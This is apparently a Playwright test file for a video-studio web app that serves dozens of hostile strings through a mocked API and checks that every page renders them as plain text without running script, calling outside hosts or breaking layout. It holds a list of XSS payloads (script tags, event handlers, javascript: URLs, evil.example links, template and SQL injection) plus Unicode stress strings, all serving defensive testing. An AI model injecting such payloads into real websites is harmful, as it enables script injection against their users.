"""Hostile text, through every text that the page shows: it is text, and the layout stays whole."""

from __future__ import annotations

import json
import time
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import NARROW, Open, Studio

# If one of these runs, it opens a dialog, calls a host, or throws; each of them is counted.
_RUN = "alert(1)"
MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js>{_RUN}</sCrIpT >",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:{_RUN}">',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="data:text/html,<script>{_RUN}</script>">',
    f'<a href="javascript:{_RUN}">press</a>',
    f"javascript:{_RUN}",
    f"JaVaScRiPt\u0009:{_RUN}",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{_RUN}",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>* { display: none !important }</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:red">',
    f"<template><script>{_RUN}</script></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<img>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}} `${{{_RUN}}}`",
    f"'-{_RUN}-'",
    f'";{_RUN};//',
    "__proto__",
    "constructor",
    "**bold** [link](javascript:alert(1)) ![x](//evil.example/x.png)",
    "{prompt} {{prompt}} %s %d {0} ${HOME}",
    "'; DROP TABLE videos; --",
)
SHAPES = (
    "\u202egnp.evil\u202c",
    "\u202d\u202e\u2066\u2067\u2068 never closed",
    "\u2069\u2069\u202c closed too often",
    "مرحبا بالعالم، قارب من ورق (شارع) 123",
    "קיטה אדומה! ",
    "a\u200bb\u200cc\u200dd\u2060e\ufeffz",
    "\u200b\u200b\u200b",
    "👨‍👩‍👧‍👦" * 40,
    "🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏿🇯🇵",
    "Z" + "\u0351\u0489\u0334" * 60 + "algo",
    "﷽" * 40,
    "𒐫" * 60,
    "W" * 400,
    "https://example.com/" + "a" * 400,
    "one\n\n\n\ntwo\r\nthree\ttab\u2028line\u2029paragraph",
    "\u0001\u0007\u001b[31mred\u001b[0m\u007f",
    "\ud7ff\uffff\U0010ffff\ufffd",
    "\uff10\uff57\uff49\uff44\uff45\u3000\uff54\uff45\uff58\uff54",
    "-1",
    " ",
)
LONG = "A very long text. <b>" * 1_600
CORPUS = (*MARKUP, *SHAPES, LONG)
_PLACES = ("main", "dialog[open]")
# What the page may lead to.
_LINKS = ("#", "https://", "http://127.0.0.1:", "blob:", "data:text/csv")


# For a failure: what is wider than the window, and where.
_WIDEST = """() => [...document.querySelectorAll(document.querySelector("dialog") ? "dialog *" : "main *")]
  .filter((each) => each.getBoundingClientRect().right > innerWidth + 1 || each.scrollWidth > each.clientWidth + 8)
  .slice(-6).map((each) => `${each.tagName}.${each.className}: ${each.textContent.slice(0, 40)}`)"""


class HostileApi:
    """Answers as the host does, with hostile text wherever an answer has text."""

    def __init__(self, studio: Studio, video: str) -> None:
        self._video = studio.read(video)
        self._studio = studio
        self.videos = [self._hostile_video(number, text) for number, text in enumerate(CORPUS)]

    def _hostile_video(self, number: int, text: str) -> dict[str, Any]:
        error = {"code": text[:80], "message": text}
        names = {"id": f"video_{number:032x}", "prompt": text, "model": text, "resolved_model": text, "provider": text}
        state = {"status": "failed", "error": error, "links": None} if number % 3 == 0 else {}
        return {**self._video, **names, **state}

    def _with_all_texts(self, video: dict[str, Any], stage: str) -> dict[str, Any]:
        """Give every string of the corpus to one video: as metadata, warnings, captions and errors of posts."""
        (post,) = self._video["posts"]
        posts = [
            {**post, "account_id": str(at), "text": text, "url": text, "error": {"code": "x", "message": text}}
            for at, text in enumerate(CORPUS)
        ]
        waits = {"status": "waiting", "expires_at": int(time.time()) + 3_600, "decided_at": None}
        more = {"stage": stage, "approval": waits if stage == "awaiting_approval" else None}
        if stage == "awaiting_approval":
            posts = [{**post, "status": "pending", "url": None, "error": None} for post in posts]
        return {**video, "metadata": dict(zip(CORPUS, CORPUS, strict=True)), "warnings": CORPUS, "posts": posts, **more}

    def answer(self, route: Route) -> None:
        """Answer a call of the page."""
        url = urlsplit(route.request.url)
        path = url.path.removeprefix("/v1")
        if path.startswith("/studio"):
            return route.continue_()
        if "dry_run" in url.query:
            return route.fulfill(status=400, json={"error": {"message": MARKUP[0] + LONG, "param": "text"}})
        return route.fulfill(json=self._give(path, url.query))

    def _give(self, path: str, query: str) -> dict[str, Any]:
        if path.endswith("/events"):
            texts = ("model", "code", "comment", "platform", "account_id")
            nothing = {"door": "api", "edits": None, "scheduled_time": None}
            told = [
                {"id": str(at), "type": "approval.rejected", "created_at": 0, "by": {"id": "key_1", "name": text}}
                | dict.fromkeys(texts, text)
                | nothing
                for at, text in enumerate(CORPUS)
            ]
            return _list(told)
        if path.startswith("/videos/"):
            number = int(path.removeprefix("/videos/video_"), 16)
            return self._with_all_texts(self.videos[number], "awaiting_approval" if number == 1 else "done")
        if path == "/videos" and "awaiting_approval" in query:
            return _list([self._with_all_texts(self.videos[1], "awaiting_approval")])
        real = self._studio.api.get(path).json()
        if path == "/videos":
            return _list(self.videos)
        if path == "/models":
            return _list([*real["data"], *({**real["data"][0], "id": text, "alias_of": text} for text in CORPUS)])
        if path == "/accounts":
            below = [{"id": text, "name": text} for text in CORPUS]
            accounts = [
                {**account, "id": str(at), "name": text, "username": text, "pages": below, "boards": below}
                for account, (at, text) in zip(real["data"] * len(CORPUS), enumerate(CORPUS), strict=False)
            ]
            return {**real, "data": accounts, "notice": MARKUP[0], "warning": LONG}
        if path == "/schedules":
            posts = self._with_all_texts(self.videos[0], "done")["posts"]
            return _list([{**post, "status": "scheduled", "scheduled_time": _SOON} for post in posts])
        if path == "/batches":
            return _list([{**_BATCH, "id": f"batch_{at}", "error": _error(text)} for at, text in enumerate(CORPUS)])
        if path == "/usage":
            days = [{"day": real["today"], "model": text, "videos": 1, "cost_usd": "0.10"} for text in CORPUS]
            return {**real, "days": days}
        raise AssertionError(path)


_SOON = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 86_400))
_COUNTS = {"total": 1, "completed": 0, "in_progress": 0, "failed": 0, "refused": 1, "queued": 0}
_BATCH = {
    "object": "batch",
    "status": "failed",
    "created_at": int(time.time()),
    "ended_at": None,
    "cost_usd": "0",
    "request_counts": _COUNTS,
    "results": None,
}


def _error(text: str) -> dict[str, str]:
    return {"code": "x", "message": text}


def _list(data: list[dict[str, Any]]) -> dict[str, Any]:
    return {"object": "list", "data": data, "has_more": False, "first_id": None, "last_id": None}


@pytest.fixture(scope="module")
def api(studio: Studio) -> HostileApi:
    video = studio.make("A base", publish=[{"platform": "twitter", "account_id": "901"}], text="Hi")
    studio.wait_for_stage(video, "done")
    return HostileApi(studio, video)


def check_whole(page: Page, shown: tuple[str, ...]) -> None:
    """Fail unless each of these strings is there as text, and nothing is wider than the window."""
    place = page.locator(_PLACES[page.locator(_PLACES[1]).count() > 0]).last
    text = place.text_content() or ""
    values = place.locator("textarea, input").evaluate_all("(all) => all.map((each) => each.value)")
    texts = "\0".join([text, *values])
    assert [each for each in shown if _squeeze(each)[:60] not in _squeeze(texts)] == []
    links = page.locator("a[href]").evaluate_all("(all) => all.map((each) => each.getAttribute('href'))")
    assert [link for link in links if not link.startswith(_LINKS)] == []
    wide = page.locator(", ".join(("body", *_PLACES))).evaluate_all(
        "(all) => all.map((each) => [each.tagName, each.scrollWidth - each.clientWidth]).filter(([, more]) => more > 0)"
    )
    assert wide == [], (page.url, page.evaluate(_WIDEST))
    assert page.evaluate("() => document.documentElement.scrollWidth") <= NARROW


def _squeeze(text: str) -> str:
    return "".join(text.replace("\0", "").split())


def test_hostile_text_is_text_on_every_page(open_page: Open, studio: Studio, api: HostileApi) -> None:
    assert len(set(CORPUS)) >= 50
    page = open_page(width=NARROW, signed_in=False)
    wrong: list[str] = []
    page.on("dialog", lambda dialog: wrong.append(dialog.message))
    page.on("request", lambda request: wrong.append(request.url) if "evil" in request.url else None)
    page.on(
        "console", lambda said: wrong.append(said.text) if said.type == "error" and "400" not in said.text else None
    )
    page.route("**/v1/**", api.answer)
    page.goto(f"{studio.url}?hostile#key={studio.key}&then=/")

    # Cards out of sight are not in the page.
    page.set_viewport_size({"width": NARROW, "height": 12_000})
    expect(page.get_by_role("listitem")).to_have_count(len(CORPUS))
    check_whole(page, CORPUS)
    page.set_viewport_size({"width": NARROW, "height": 800})
    for path, is_there, shown in (
        (f"/videos/{api.videos[0]['id']}", "dialog[open] .facts dt", CORPUS),
        (f"/videos/{api.videos[1]['id']}", "dialog[open] .wording", CORPUS),
        (f"/videos/{api.videos[-1]['id']}", "dialog[open] .facts dt", CORPUS),
        ("/approvals", "main .wording", (MARKUP[1], *CORPUS)),
        ("/schedules", "main li .row", CORPUS),
        ("/batches", "main li .note.bad", CORPUS),
        ("/usage", "main tr", CORPUS),
    ):
        page.goto(f"{studio.url}?hostile#{path}")
        expect(page.locator(is_there).nth(len(CORPUS) - 1)).to_be_attached()
        if "facts" in is_there:
            page.get_by_text("History", exact=True).click()
            expect(page.locator(".history li")).to_have_count(len(CORPUS))
        check_whole(page, shown)
        page.keyboard.press("Escape")
    page.goto(f"{studio.url}?hostile#/make")
    page.get_by_text("Post it").click()
    for number in (0, len(MARKUP), len(MARKUP) + 12):
        page.get_by_role("list", name="Accounts").get_by_role("button").nth(number).click()
    page.get_by_label("Prompt", exact=True).fill(LONG)
    page.get_by_label("Caption for all").fill(LONG)
    check_whole(page, (MARKUP[0], SHAPES[0], SHAPES[12], LONG))
    assert wrong == []


def test_a_hostile_refusal_is_text(open_page: Open, studio: Studio) -> None:
    page = open_page(width=NARROW, signed_in=False)
    wrong: list[str] = []
    page.on("dialog", lambda dialog: wrong.append(dialog.message))
    said = iter(CORPUS)

    def refuse(route: Route) -> None:
        route.fulfill(status=401, body=json.dumps({"error": {"message": next(said)}}))

    page.route("**/v1/videos*", refuse)
    for text in CORPUS:
        page.get_by_label("API key").fill(studio.key)
        with page.expect_response("**/v1/videos*"):
            page.get_by_role("button", name="Sign in").click()
        if text.strip("\u200b "):
            expect(page.locator(".note.bad")).to_contain_text(text[:40].split("\n")[0])
    assert page.evaluate("() => document.documentElement.scrollWidth") <= NARROW
    assert wrong == []
